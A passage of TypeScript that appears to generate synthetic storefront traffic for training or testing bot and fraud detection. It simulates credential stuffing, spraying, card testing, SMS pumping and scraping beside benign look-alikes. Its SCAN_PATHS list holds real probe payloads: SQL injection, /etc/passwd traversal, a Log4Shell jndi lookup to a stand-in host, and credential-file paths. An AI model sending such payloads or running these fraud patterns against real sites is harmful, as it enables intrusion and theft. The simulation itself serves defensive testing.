    visitor.wait(int(random, 10_000, 60_000)).post(OTP_VERIFY, { phone, code: String(int(random, 100_000, 999_999)) }, "/account/verify");
  }
  for (let n = 5; n > 0; n--) {
    const person = pick(random, browsers);
    const visitor = visit(person, "/password-reset");
    visitor.wait(int(random, 5_000, 25_000)).post(PASSWORD_RESET, { email: person.account.username }, "/password-reset");
    if (random() < 0.2) visitor.wait(int(random, 60_000, 180_000)).post(PASSWORD_RESET, { email: person.account.username }, "/password-reset");
  }
  for (let n = 4; n > 0; n--) {
    const visitor = visit(pick(random, browsers), "/gift-cards");
    const code = giftCardCode(int(random, 0, GIFT_CARD_BATCHES - 1), int(random, 0, 999_999));
    if (random() < 0.25) visitor.wait(int(random, 5_000, 20_000)).post(GIFT_CARD_BALANCE, { code: code.slice(0, -1) }, "/gift-cards", { status: 404 });
    visitor.wait(int(random, 5_000, 20_000)).post(GIFT_CARD_BALANCE, { code }, "/gift-cards");
  }
}

// ---------------------------------------------------------------- attacks

interface Knobs {
  /** Attack requests per minute, whole window. */
  rate: number;
  /** Distinct addresses (a residential proxy pool of that size). */
  addresses: number;
  realism: Realism;
  /** Logins per bot instance (headless), victims (token replay), ... */
  per?: number;
  /** Family variant: how the tool behaves. */
  variant?: string;
  /** The minute the attack starts and how many it lasts (default: the whole hour). */
  start?: number;
  minutes?: number;
  /** The share of a credential list that is right (account checking). */
  hitRate?: number;
  /** How each session of a `campaign` prepares (default `bare`). */
  warmup?: Warmup;
}

/**
 * `bare` posts straight away, `page` loads the form's page first (and so gets the site's
 * cookies), `browse` lands on the home page, loads the shell and looks at products (pictures
 * and all) before the form, `interleave` browses again before each of its later tries.
 */
type Warmup = "bare" | "page" | "browse" | "interleave";

/** The attack's window in the hour, in ms. */
function windowOf(knobs: Knobs): { from: number; to: number; minutes: number } {
  const from = (knobs.start ?? 0) * MINUTE;
  const minutes = knobs.minutes ?? 60 - (knobs.start ?? 0);
  return { from, to: Math.min(HOUR, from + minutes * MINUTE), minutes };
}

interface Point {
  family: string;
  name: string;
  knobs: Knobs;
  describe: string;
}

type AttackPlan = (random: Random, shop: Shop, out: Planned[], population: Population, knobs: Knobs) => void;

/** A pool of proxies spread over many /16s of many ISPs, each address chosen at random per use. */
function proxyPool(random: Random, size: number): string[] {
  return Array.from({ length: size }, () => (random() < 0.1 ? residentialIpv6(random) : residentialIp(random, 400)));
}

/** A combo list from other sites' breaches: most accounts unknown here, some reused passwords. */
function comboList(random: Random, shop: Shop, length: number): { username: string; password: string }[] {
  return Array.from({ length }, () => {
    const roll = random();
    if (roll < 0.02) return { ...pick(random, shop.accounts) };
    if (roll < 0.42) return { username: pick(random, shop.accounts).username, password: `${hex(random, 4)}${pick(random, ["!", "123", "2019", ""])}` };
    return { username: `${pick(random, ["mark", "sue", "li", "raj", "zoe", "tom"])}${int(random, 1, 99999)}@${pick(random, ["gmail.com", "hotmail.com", "mail.ru", "yahoo.com"])}`, password: hex(random, 8) };
  });
}

function stolenIf(answer: Partial<Planned>, username: string): Partial<Planned> {
  return answer.rightPassword ? { ...answer, stolen: username } : answer;
}

/** Credential stuffing through residential proxies: one POST per try, no page, no cookies; the whole hour or a burst. */
const stuffing: AttackPlan = (random, shop, out, { byName }, knobs) => {
  const { from, to, minutes } = windowOf(knobs);
  const pool = proxyPool(random, knobs.addresses);
  const client = toolClient(random, knobs.realism);
  const list = comboList(random, shop, Math.ceil(knobs.rate * minutes * 1.1));
  let t = from + int(random, 0, 2_000);
  for (const entry of list) {
    if (t >= to) break;
    const visitor = new Visitor(random, out, "stuffing", pick(random, pool), client, t);
    visitor.login(entry.username, entry.password, { target: true, ...stolenIf(loginAnswer(shop, byName, entry.username, entry.password), entry.username) });
    t += gap(random, MINUTE / knobs.rate);
  }
};

/** Headless Chrome per proxy: loads the site (cookies kept), maybe a product, then tries `per` accounts. */
const headless: AttackPlan = (random, shop, out, { byName }, knobs) => {
  const pool = proxyPool(random, knobs.addresses);
  const list = comboList(random, shop, Math.ceil(knobs.rate * 60 * 1.1));
  const instances = Math.ceil(list.length / (knobs.per ?? 1));
  const spacing = HOUR / instances;
  let next = 0;
  for (let instance = 0; instance < instances && next < list.length; instance++) {
    const visitor = new Visitor(random, out, "headless", pick(random, pool), toolClient(random, knobs.realism), Math.floor(instance * spacing + random() * 1_000));
    visitor.page("/");
    visitor.shell();
    if (knobs.variant === "browses") visitor.wait(int(random, 1_500, 4_000)).product(shop, popularProduct(random, shop));
    visitor.wait(int(random, 1_000, 3_000)).page("/login", "https://shop.example/");
    for (let n = 0; n < (knobs.per ?? 1) && next < list.length; n++) {
      const entry = list[next++]!;
      visitor.wait(int(random, 1_500, Math.max(2_000, (spacing / (knobs.per ?? 1)) * 0.8)));
      visitor.login(entry.username, entry.password, { target: true, ...stolenIf(loginAnswer(shop, byName, entry.username, entry.password), entry.username) });
    }
  }
};

/** Low and slow: a small pool, each address trying an account every few tens of minutes. */
const lowAndSlow: AttackPlan = (random, shop, out, { byName }, knobs) => {
  const pool = proxyPool(random, knobs.addresses);
  const list = comboList(random, shop, Math.ceil(knobs.rate * 60 * 1.2));
  const clients = new Map(pool.map((ip) => [ip, toolClient(random, knobs.realism)]));
  let t = int(random, 0, 30_000);
  for (const entry of list) {
    if (t >= HOUR) break;
    const ip = pool[list.indexOf(entry) % pool.length]!;
    const visitor = new Visitor(random, out, "low-and-slow", ip, clients.get(ip)!, t);
    if (knobs.variant === "page-first") visitor.page("/login");
    visitor.wait(int(random, 2_000, 6_000)).login(entry.username, entry.password, { target: true, ...stolenIf(loginAnswer(shop, byName, entry.username, entry.password), entry.username) });
    t += gap(random, MINUTE / knobs.rate);
  }
};

/** Password spraying: a few common passwords across the site's real usernames (harvested earlier). */
const spray: AttackPlan = (random, shop, out, { byName }, knobs) => {
  const pool = proxyPool(random, knobs.addresses);
  const client = toolClient(random, knobs.realism);
  const targets = [...shop.accounts].sort(() => random() - 0.5);
  let t = int(random, 0, 2_000);
  let n = 0;
  for (const password of SPRAY_PASSWORDS) {
    for (const account of targets) {
      if (t >= HOUR) return;
      const visitor = new Visitor(random, out, "spray", pool[n++ % pool.length]!, client, t);
      visitor.login(account.username, password, { target: true, ...stolenIf(loginAnswer(shop, byName, account.username, password), account.username) });
      t += gap(random, MINUTE / knobs.rate);
    }
  }
};

/**
 * Refresh-token replay: an infostealer took app users' refresh tokens (and, in the "jar"
 * variant, the device cookie beside them); the thief refreshes from elsewhere while the victim
 * may still be using the app.
 */
const tokenReplay: AttackPlan = (random, _shop, out, { returning }, knobs) => {
  const victims = returning.filter((person) => person.refreshToken).slice(0, knobs.per ?? 10);
  const pool = proxyPool(random, knobs.addresses);
  for (const [v, victim] of victims.entries()) {
    const client = knobs.realism === "chrome" ? victim.client : toolClient(random, knobs.realism);
    const visitor = new Visitor(random, out, "token-replay", pool[v % pool.length]!, client, int(random, 0, 10 * MINUTE));
    while (visitor.t < HOUR) {
      if (knobs.variant === "jar") visitor.jar.set("did", victim.deviceId);
      if (knobs.addresses > victims.length) visitor.ip = pick(random, pool);
      refresh(visitor, victim, { target: true, status: 200, stolen: victim.account.username });
      visitor.wait(MINUTE / knobs.rate * victims.length - int(random, 0, 20_000));
    }
  }
};

/** Distributed catalogue scraping through a proxy pool: data only, no pictures. */
const scraping: AttackPlan = (random, shop, out, _population, knobs) => {
  const pool = proxyPool(random, knobs.addresses);
  const ids = knobs.variant === "sequential" ? Array.from({ length: shop.lastId - shop.firstId + 1 }, (_, i) => shop.firstId + i) : [...shop.products].sort(() => random() - 0.5);
  const visitors = new Map<string, Visitor>();
  let t = int(random, 0, 2_000);
  for (const id of ids) {
    if (t >= HOUR) break;
    const ip = pick(random, pool);
    let visitor = visitors.get(ip);
    if (!visitor) {
      visitor = new Visitor(random, out, "scraping", ip, toolClient(random, knobs.realism), t);
      visitors.set(ip, visitor);
      if (knobs.realism === "headless") visitor.page("/");
    }
    visitor.t = Math.max(visitor.t, t);
    visitor.send("xhr", "GET", `/api/v1/products/${id}`, { target: true, status: shop.exists.has(id) ? 200 : 404, resource: shop.exists.has(id) ? `product ${id}` : undefined, referer: knobs.realism === "headless" || knobs.realism === "chrome" ? `https://shop.example/p/${id}` : undefined });
    t += gap(random, MINUTE / knobs.rate);
  }
};

const SCAN_PATHS = [
  "/.env", "/.git/config", "/.git/HEAD", "/wp-login.php", "/wp-admin/", "/xmlrpc.php", "/phpmyadmin/", "/pma/", "/adminer.php",
  "/server-status", "/actuator/env", "/actuator/health", "/backup.zip", "/backup.sql", "/db.sql", "/config.json", "/.aws/credentials",
  "/.DS_Store", "/admin/", "/administrator/", "/api/swagger.json", "/v2/api-docs", "/graphql", "/console", "/debug/vars",
  "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/cgi-bin/luci", "/solr/admin/info/system", "/.well-known/security.txt",
  "/api/v1/products/1%27%20OR%20%271%27%3D%271", "/api/v1/search?q=%27%20union%20select%20null--", "/static/../../etc/passwd",
  "/api/v1/search?q=%24%7Bjndi%3Aldap%3A%2F%2Fx.example%2Fa%7D", "/login.action", "/index.php?s=/index/think/app/invokefunction", "/.htaccess",
  "/web.config", "/telescope/requests", "/_profiler/", "/storage/logs/laravel.log", "/api/v1/users", "/api/v1/admin/users", "/.svn/entries",
  "/config.yml", "/credentials.json", "/site.tar.gz", "/old/", "/test.php", "/info.php", "/elmah.axd", "/jmx-console/",
];

/** Vulnerability scanning: a template scanner's probe list, from one address or spread over many. */
const scan: AttackPlan = (random, _shop, out, _population, knobs) => {
  const pool = proxyPool(random, knobs.addresses);
  const clients = pool.map(() => (knobs.realism === "chrome" ? chromium(random) : ({ engine: "curl", userAgent: pick(random, ["Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000131)", "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))"]), language: "" } as Client)));
  let t = int(random, 0, 2_000);
  for (let n = 0; t < HOUR; n++) {
    const a = n % pool.length;
    const visitor = new Visitor(random, out, "scan", pool[a]!, clients[a]!, t);
    visitor.send("navigate", "GET", SCAN_PATHS[n % SCAN_PATHS.length]!, { target: true, status: 404 });
    t += gap(random, MINUTE / knobs.rate);
  }
};

/**
 * Account checking: a list of this site's own credentials (phished, or from an infostealer's
 * logs), most still right, tried once or twice per proxy with a faithful browser's headers,
 * optionally after loading the login page; what matters is the accounts taken over.
 */
const credentialCheck: AttackPlan = (random, shop, out, { byName }, knobs) => {
  const pool = proxyPool(random, knobs.addresses);
  const list = Array.from({ length: Math.ceil(knobs.rate * 60 * 1.1) }, () => {
    const account = pick(random, shop.accounts);
    if (random() < (knobs.hitRate ?? 0.5)) return { ...account };
    // A password changed since the list was made, or an address mistyped when it was harvested.
    return random() < 0.85 ? { username: account.username, password: `${hex(random, 6)}-${hex(random, 6)}` } : { username: account.username.replace("@", "_@"), password: account.password };
  });
  let t = int(random, 0, 2_000);
  for (let next = 0, n = 0; next < list.length && t < HOUR; n++) {
    const visitor = new Visitor(random, out, "attack", pool[n % pool.length]!, toolClient(random, knobs.realism), t);
    if (knobs.variant === "page-first") visitor.page("/login");
    for (let tried = 0; tried < (knobs.per ?? 1) && next < list.length; tried++) {
      const entry = list[next++]!;
      visitor.wait(int(random, 2_000, 9_000)).login(entry.username, entry.password, { target: true, ...stolenIf(loginAnswer(shop, byName, entry.username, entry.password), entry.username) });
      t += gap(random, MINUTE / knobs.rate);
    }
  }
};

/** One or a few addresses presenting another browser on every request (user agent, header set, language), never a cookie. */
const rotation: AttackPlan = (random, shop, out, { byName }, knobs) => {
  const pool = proxyPool(random, knobs.addresses);
  const list = comboList(random, shop, Math.ceil(knobs.rate * 60 * 1.1));
  let t = int(random, 0, 2_000);
  for (const entry of list) {
    if (t >= HOUR) break;
    const visitor = new Visitor(random, out, "attack", pick(random, pool), someClient(random, BROWSERS), t);
    if (knobs.variant === "scrape") {
      const id = pick(random, shop.products);
      visitor.send("xhr", "GET", `/api/v1/products/${id}`, { target: true, resource: `product ${id}`, referer: `https://shop.example/p/${id}` });
    } else visitor.login(entry.username, entry.password, { target: true, ...stolenIf(loginAnswer(shop, byName, entry.username, entry.password), entry.username) });
    t += gap(random, MINUTE / knobs.rate);
  }
};

/**
 * Enumeration of ids the storefront answers for: guest order tracking (`/api/v1/orders/{id}`,
 * 1 id in 10 a guest order), coupon codes (`/api/v1/coupons/{code}`, 1 in 50 valid), both paths
 * no endpoint of the example policy names, and whether an address has an account (the
 * `signup` endpoint: a weak password gets 422 for a new address, 409 for a registered one, from
 * a list). Ids walked in order or scattered; mostly 404.
 */
const enumeration: AttackPlan = (random, shop, out, _population, knobs) => {
  const pool = proxyPool(random, knobs.addresses);
  const clients = pool.map(() => toolClient(random, knobs.realism));
  const [kind, order] = (knobs.variant ?? "orders-sequential").split("-");
  const first = int(random, 0, 5_000);
  let t = int(random, 0, 2_000);
  for (let n = 0; t < HOUR; n++) {
    const a = n % pool.length;
    const visitor = new Visitor(random, out, "attack", pool[a]!, clients[a]!, t);
    const index = order === "sequential" ? first + n : int(random, 0, 60_000);
    if (kind === "accounts") {
      // Addresses from another site's breach: about a third have an account here.
      const registered = random() < 0.35;
      const account = registered ? pick(random, shop.accounts) : { username: `${pick(random, ["mark", "sue", "li", "raj", "zoe", "tom"])}${int(random, 1, 99999)}@gmail.com` };
      visitor.send("json-post", "POST", "/api/v1/register", { target: true, body: JSON.stringify({ email: account.username, password: "a" }), status: registered ? 409 : 422, resource: registered ? `account ${account.username}` : undefined, referer: "https://shop.example/register" });
    } else {
      const path = kind === "coupons" ? `/api/v1/coupons/SAVE${String(index % 10_000).padStart(4, "0")}` : `/api/v1/orders/${200_000 + index}`;
      const found = random() < (kind === "coupons" ? 0.02 : 0.1);
      visitor.send("xhr", "GET", path, { target: true, status: found ? 200 : 404, resource: found ? path : undefined, referer: "https://shop.example/" });
    }
    t += gap(random, MINUTE / knobs.rate);
  }
};

/**
 * Scraping that looks like people: a real browser per session through a residential proxy,
 * landing on the home page, loading the shell and each product's pictures (or, `no-pictures`,
 * blocking them as scrapers do to save bandwidth), keeping its cookies, 2–10 products a session,
 * sessions spread over the hour; the catalogue covered in sitemap order shuffled.
 */
const humanScraping: AttackPlan = (random, shop, out, _population, knobs) => {
  const sessions = knobs.per ?? 1000;
  const pool = proxyPool(random, knobs.addresses);
  const ids = [...shop.products].sort(() => random() - 0.5);
  let next = 0;
  for (let session = 0; session < sessions; session++) {
    const visitor = new Visitor(random, out, "attack", pool[session % pool.length]!, someClient(random, BROWSERS), Math.floor((session * HOUR) / sessions + random() * 2_000));
    visitor.page("/", random() < 0.5 ? "https://www.google.com/" : undefined);
    visitor.shell();
    for (let n = int(random, 2, 10); n > 0; n--) {
      const id = ids[next++ % ids.length]!;
      const read = visitor.wait(int(random, knobs.variant === "slow" ? 10_000 : 3_000, knobs.variant === "slow" ? 60_000 : 20_000)).product(shop, id, { pictures: knobs.variant !== "no-pictures" });
      Object.assign(read, { target: true, resource: `product ${id}` });
    }
  }
};

/**
 * The shape the newer attacks share: sessions through a proxy pool over the attack's window,
 * `per` tries each and `rate` tries a minute in all, one client per address (the tool's
 * header set), each session prepared as `warmup` says before `form`, its form's page.
 */
function campaign(random: Random, shop: Shop, out: Planned[], knobs: Knobs, form: string, attempt: (visitor: Visitor, n: number) => void): void {
  const { from, to } = windowOf(knobs);
  const pool = proxyPool(random, knobs.addresses);
  const clients = new Map<string, Client>();
  const per = knobs.per ?? 1;
  const warmup = knobs.warmup ?? "bare";
  for (let session = 0, t = from + int(random, 0, 2_000); t < to; session++, t += gap(random, (per * MINUTE) / knobs.rate)) {
    const ip = pool[session % pool.length]!;
    if (!clients.has(ip)) clients.set(ip, toolClient(random, knobs.realism));
    const visitor = new Visitor(random, out, "attack", ip, clients.get(ip)!, Math.floor(t));
    if (warmup === "browse" || warmup === "interleave") {
      visitor.page("/", random() < 0.5 ? "https://www.google.com/" : undefined);
      visitor.shell();
      visitor.browse(shop);
    }
    for (let n = 0; n < per && visitor.t < HOUR; n++) {
      if (warmup === "interleave" && n > 0) visitor.browse(shop);
      if (warmup !== "bare" && (n === 0 || warmup === "interleave")) visitor.wait(int(random, 2_000, 8_000)).page(form, "https://shop.example/");
      attempt(visitor.wait(int(random, 1_500, 6_000)), n);
    }
  }
}

/**
 * Card testing: stolen or generated card numbers checked with small payments (a cheap item, one
 * to five dollars), 6% live; with a cart first when the session loads the site. The shop pays
 * the processor for every decline and risks its merchant account.
 */
const cardTesting: AttackPlan = (random, shop, out, population, knobs) => {
  everydayFlows(random, shop, out, population);
  const cheap = shop.products[shop.products.length - 1]!;
  let cards = 0;
  campaign(random, shop, out, knobs, "/checkout", (visitor, n) => {
    if (n === 0 && knobs.warmup && knobs.warmup !== "bare") visitor.post(CART, { productId: cheap, quantity: 1 }, `/p/${cheap}`);
    const live = random() < 0.06;
    pay(visitor, int(random, 1, 5), { target: true, status: live ? 200 : 402, harm: live ? undefined : "declined cards", resource: live ? `card ${cards}` : undefined });
    cards++;
  });
};

/** Premium-rate and international ranges whose carriers share the termination fee with the pumper. */
const PUMPED_PREFIXES = ["+88213", "+37126", "+99655", "+25261", "+67570", "+23762"];

/**
 * SMS pumping (`otp`): verification codes sent to blocks of numbers in ranges the pumper earns
 * on, a new prefix every fifty; password-reset floods (`reset`): reset e-mails for addresses
 * from a list (a third the shop's own). The shop pays for every message sent.
 */
const messagePumping: AttackPlan = (random, shop, out, population, knobs) => {
  everydayFlows(random, shop, out, population);
  const reset = knobs.variant === "reset";
  let prefix = pick(random, PUMPED_PREFIXES);
  let number = int(random, 1_000_000, 8_000_000);
  campaign(random, shop, out, knobs, reset ? "/password-reset" : "/account/verify", (visitor) => {
    const fields: Partial<Planned> = { target: true, harm: "messages sent" };
    if (reset) {
      const email = random() < 0.33 ? pick(random, shop.accounts).username : `${pick(random, ["mark", "sue", "li", "raj", "zoe", "tom"])}${int(random, 1, 99999)}@${pick(random, ["gmail.com", "hotmail.com", "yahoo.com"])}`;
      visitor.post(PASSWORD_RESET, { email }, "/password-reset", fields);
      return;
    }
    if (number % 50 === 0) prefix = pick(random, PUMPED_PREFIXES);
    visitor.post(OTP_SEND, { phone: `${prefix}${number++}`, channel: "sms" }, "/account/verify", fields);
  });
};

/**
 * Stuffing the mobile API: the OAuth password grant with the shop's app's headers from
 * residential proxies, a combo list; `device-cookie` sends a device cookie of its own making
 * from the session's first try, as a fresh install would carry after its first answer.
 */
const mobileStuffing: AttackPlan = (random, shop, out, { byName }, knobs) => {
  const { minutes } = windowOf(knobs);
  const list = comboList(random, shop, Math.ceil(knobs.rate * minutes * 1.1));
  let next = 0;
  campaign(random, shop, out, knobs, "/", (visitor, n) => {
    if (knobs.variant === "device-cookie" && n === 0) visitor.jar.set("did", hex(random, 16));
    const { username, password } = list[next++ % list.length]!;
    const answer = stolenIf(loginAnswer(shop, byName, username, password), username);
    const body = new URLSearchParams({ grant_type: "password", username, password, client_id: "storefront-app" }).toString();
    visitor.send("form", "POST", "/oauth/token", { body, target: true, ...answer, status: answer.rightPassword ? 200 : 400, responseHeaders: undefined });
  });
};

/** Gift-card balance checking: a batch's serials walked in order (`sequential`) or at random; the valid ones are spent elsewhere. */
const giftCards: AttackPlan = (random, shop, out, population, knobs) => {
  everydayFlows(random, shop, out, population);
  const batch = int(random, 0, GIFT_CARD_BATCHES - 1);
  let serial = int(random, 0, 500_000);
  campaign(random, shop, out, knobs, "/gift-cards", (visitor) => {
    const code = giftCardCode(batch, knobs.variant === "sequential" ? serial++ : int(random, 0, 999_999));
    const issued = random() < 1 / 40;
    visitor.post(GIFT_CARD_BALANCE, { code }, "/gift-cards", { target: true, status: issued ? 200 : 404, resource: issued ? `gift card ${code}` : undefined });
  });
};

/** Cart hoarding: a limited product (one of the best sellers) put in carts, 2–5 at a time, by many new sessions, holding the stock from buyers. */
const cartHoarding: AttackPlan = (random, shop, out, population, knobs) => {
  everydayFlows(random, shop, out, population);
  const limited = shop.products[1]!;
  campaign(random, shop, out, knobs, `/p/${limited}`, (visitor) => {
    const quantity = int(random, 2, 5);
    visitor.post(CART, { productId: limited, quantity }, `/p/${limited}`, { target: true, harm: "units held", units: quantity });
  });
};

/** Stuffing from browser sessions that look around the shop (products, pictures, searches) before and between their logins. */
const browsingStuffing: AttackPlan = (random, shop, out, { byName }, knobs) => {
  const list = comboList(random, shop, Math.ceil(knobs.rate * 60 * 1.1));
  let next = 0;
  campaign(random, shop, out, knobs, "/login", (visitor) => {
    const { username, password } = list[next++ % list.length]!;
    visitor.login(username, password, { target: true, ...stolenIf(loginAnswer(shop, byName, username, password), username) });
  });
};

// ---------------------------------------------------------------- benign confounders

/** People beyond the hour's usual ones (accounts from 2 000 on), seen before the hour when `returning`. */
function morePeople(random: Random, shop: Shop, out: Planned[], count: number, options: { mix?: ClientMix; returning: number; from?: number }): Person[] {
  return shop.accounts.slice(options.from ?? 2_000, (options.from ?? 2_000) + count).map((account) => {
    const person = makePerson(random, account, options.mix);
    if (random() < options.returning) history(random, out, person);
    return person;
  });
}

/** A newsletter's 15 minutes from minute 20: `per`× the usual arrivals, most of them signing up and in. */
const marketingSpike: AttackPlan = (random, shop, out, population, knobs) => {
  const extra = Math.round(((knobs.per ?? 3) - 1) * (population.people.length / 1.2 / 60) * 15);
  const people = morePeople(random, shop, out, extra, { returning: 0.4 });
  for (const [n, person] of people.entries()) {
    const start = 20 * MINUTE + (n * 15 * MINUTE) / extra + int(random, 0, 5_000);
    if (random() < 0.4) {
      browsingSession(random, shop, out, person, start, true, population.byName);
      continue;
    }
    const newcomer = { ...person, account: { username: `${person.account.username.split("@")[0]}.new@${pick(random, ["gmail.com", "outlook.com", "proton.me"])}`, password: `${hex(random, 6)}-${hex(random, 6)}` } };
    const visitor = new Visitor(random, out, "legit", networkOf(random, newcomer), newcomer.client, start);
    visitor.page(`/?utm_source=newsletter&utm_medium=email&utm_campaign=winter-sale`);
    visitor.shell();
    for (let k = int(random, 1, 4); k > 0; k--) visitor.wait(int(random, 4_000, 30_000)).product(shop, popularProduct(random, shop));
    visitor.wait(int(random, 3_000, 20_000)).page("/register", "https://shop.example/");
    visitor.wait(int(random, 20_000, 90_000)).send("json-post", "POST", "/api/v1/register", { body: JSON.stringify({ email: newcomer.account.username, password: newcomer.account.password, newsletter: true }), status: 201, responseHeaders: { "x-signup-result": "created" }, referer: "https://shop.example/register" });
    // The single-page app signs the new account in at once.
    visitor.wait(int(random, 300, 1_500)).login(newcomer.account.username, newcomer.account.password, { status: 200, rightPassword: true, responseHeaders: { "x-auth-result": "ok" } });
    for (let k = int(random, 0, 3); k > 0; k--) visitor.wait(int(random, 4_000, 30_000)).product(shop, popularProduct(random, shop));
  }
};

/** `per` colleagues behind one office NAT on the same Chrome build, signing in as they arrive. */
const officeNat: AttackPlan = (random, shop, out, population, knobs) => {
  office(random, shop, out, morePeople(random, shop, out, knobs.per ?? 50, { mix: BROWSERS, returning: 1 }), population.byName);
};

/** `per` phones behind one mobile carrier address over the hour: browsers and the app, signing in as usual. */
const carrierNat: AttackPlan = (random, shop, out, population, knobs) => {
  const ip = `176.${int(random, 60, 70)}.${int(random, 0, 255)}.${int(random, 1, 254)}`;
  const phones = morePeople(random, shop, out, knobs.per ?? 200, { mix: PHONES, returning: 0.7 });
  for (const phone of phones) browsingSession(random, shop, out, { ...phone, homeIp: ip, mobile: false }, int(random, 0, HOUR - 5 * MINUTE), true, population.byName);
};

/**
 * Signing in the way password managers and hurried people do: `autofill` submits a saved
 * password within a second of the page (a stale one first for a quarter of them, and a double
 * submit now and then); `typos` mistypes (a dropped or swapped character, caps lock, a wrong
 * address) one to three times before getting in, and one in ten gives up.
 */
const signingIn: AttackPlan = (random, shop, out, population, knobs) => {
  const autofill = knobs.variant === "autofill";
  for (const person of morePeople(random, shop, out, knobs.per ?? 100, { mix: BROWSERS, returning: 0.8 })) {
    const visitor = new Visitor(random, out, "legit", networkOf(random, person), person.client, int(random, 0, HOUR - 5 * MINUTE));
    visitor.jar.set("did", person.deviceId);
    visitor.page("/", undefined);
    visitor.shell();
    visitor.wait(int(random, 2_000, 20_000)).page("/login", "https://shop.example/");
    const { username, password } = person.account;
    const tries: { username: string; password: string }[] = [];
    if (autofill) {
      if (random() < 0.25) tries.push({ username, password: `${hex(random, 6)}-${hex(random, 6)}` });
      tries.push({ username, password });
      if (random() < 0.1) tries.push({ username, password });
    } else {
      const mistakes = [password.slice(0, -1), password.slice(1, 2) + password.slice(0, 1) + password.slice(2), password.toUpperCase(), password];
      for (let n = int(random, 1, 3); n > 0; n--) tries.push(random() < 0.15 ? { username: username.slice(0, -1), password } : { username, password: pick(random, mistakes.slice(0, 3)) });
      if (random() >= 0.1) tries.push({ username, password });
    }
    for (const [n, entry] of tries.entries()) {
      visitor.wait(autofill ? (n === 0 ? int(random, 300, 900) : int(random, 150, 12_000)) : int(random, 4_000, 20_000));
      visitor.login(entry.username, entry.password, loginAnswer(shop, population.byName, entry.username, entry.password));
    }
  }
};

/** `per` users of the storefront app, which never loads a page: half fresh installs signing in (no device cookie yet). */
const appOnly: AttackPlan = (random, shop, out, population, knobs) => {
  for (const user of morePeople(random, shop, out, knobs.per ?? 100, { mix: [[storefrontApp, 1]], returning: 0.5 })) {
    let start = int(random, 0, HOUR - 10 * MINUTE);
    if (random() < 0.5) {
      user.refreshToken = hex(random, 32);
      user.deviceId = hex(random, 16);
      const install = new Visitor(random, out, "legit", networkOf(random, user), user.client, start);
      const body = new URLSearchParams({ grant_type: "password", username: user.account.username, password: user.account.password, client_id: "storefront-app" }).toString();
      install.send("form", "POST", "/oauth/token", { body, status: 200, rightPassword: true, responseHeaders: { "set-cookie": `did=${user.deviceId}; Path=/; Max-Age=31536000; Secure; HttpOnly` } });
      user.lastRefresh = start;
      start += int(random, 1_000, 5_000);
    }
    browsingSession(random, shop, out, user, start, true, population.byName);
  }
};

/**
 * Crawlers: Google's smartphone crawler and Bingbot from their published ranges (legitimate,
 * scored as friction), and a scraper that took Googlebot's user agent from hosting addresses
 * (the attack), reading the product data behind the pages.
 */
const crawlers: AttackPlan = (random, shop, out) => {
  const smartphone: Client = { engine: "googlebot", userAgent: "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.6778.69 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", language: "" };
  const bingbot: Client = { engine: "googlebot", userAgent: "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm) Chrome/116.0.1938.76 Safari/537.36", language: "" };
  crawl(random, shop, out, { ip: `66.249.68.${int(random, 1, 60)}`, client: smartphone, meanGap: 6_000, label: "legit" });
  for (const ip of ["157.55.39.12", "40.77.167.40", "207.46.13.91"]) crawl(random, shop, out, { ip, client: bingbot, meanGap: 4_000, label: "legit" });
  for (const ip of ["45.134.26.17", "5.188.62.140", "194.26.29.113", "91.92.109.24", "103.152.18.6"]) crawl(random, shop, out, { ip, client: GOOGLEBOT, meanGap: 6_000, label: "attack", api: true });
};

/**
 * A flash sale: a limited product announced for minute 30; `per`× the usual arrivals over the
 * next fifteen minutes (half returning with the shop's device cookie), 70% putting it in their
 * cart and half of those paying (declines and second cards included).
 */
const flashSale: AttackPlan = (random, shop, out, population, knobs) => {
  everydayFlows(random, shop, out, population);
  const sale = shop.products[1]!;
  const arrivals = Math.round(((knobs.per ?? 5) - 1) * (population.people.length / 1.2 / 60) * 15);
  for (const [n, person] of morePeople(random, shop, out, arrivals, { mix: BROWSERS, returning: 0.5 }).entries()) {
    const visitor = new Visitor(random, out, "legit", networkOf(random, person), person.client, 30 * MINUTE + Math.floor((n * 15 * MINUTE) / arrivals) + int(random, 0, 5_000));
    if (random() < 0.5) visitor.jar.set("did", person.deviceId);
    visitor.page(`/p/${sale}?utm_source=newsletter&utm_campaign=flash-sale`);
    visitor.shell();
    if (random() < 0.7) purchase(visitor, shop, sale, random() < 0.5);
    else visitor.browse(shop);
  }
};

/** A browser session that signs in with the right password (saved or typed) and looks around, sometimes buying. */
function signedInVisit(random: Random, shop: Shop, out: Planned[], person: Person, ip: string, start: number): Visitor {
  const visitor = new Visitor(random, out, "legit", ip, person.client, start);
  visitor.jar.set("did", person.deviceId);
  visitor.page("/", undefined);
  visitor.shell();
  visitor.browse(shop);
  visitor.wait(int(random, 2_000, 15_000)).page("/login", "https://shop.example/");
  visitor.wait(int(random, 1_000, 12_000)).login(person.account.username, person.account.password, { status: 200, rightPassword: true, responseHeaders: { "x-auth-result": "ok" } });
  visitor.browse(shop);
  if (random() < 0.2) purchase(visitor, shop, popularProduct(random, shop), true);
  return visitor;
}

/** `per` families each sharing one account from two homes (another ISP, another browser), both signing in once or twice in the hour. */
const familyAccount: AttackPlan = (random, shop, out, population, knobs) => {
  everydayFlows(random, shop, out, population);
  for (const person of morePeople(random, shop, out, knobs.per ?? 15, { mix: BROWSERS, returning: 1 })) {
    const relative: Person = { ...makePerson(random, person.account, BROWSERS), homeIp: residentialIp(random, 120) };
    // Most of the second homes signed in before, on the same account.
    if (random() < 0.6) history(random, out, relative);
    for (const member of [person, relative]) {
      for (let n = int(random, 1, 2); n > 0; n--) signedInVisit(random, shop, out, member, member.homeIp, int(random, 0, HOUR - 10 * MINUTE));
    }
  }
};

/** A commercial VPN's exits: hosting addresses shared by all its users. */
const VPN_EXITS = Array.from({ length: 24 }, (_, i) => (i % 2 ? `146.70.${100 + (i % 7)}.${10 + i}` : `89.187.${160 + (i % 5)}.${30 + i}`));

/**
 * `per` people on a VPN whose exit changes every two to eight minutes, for a 20–50 minute visit:
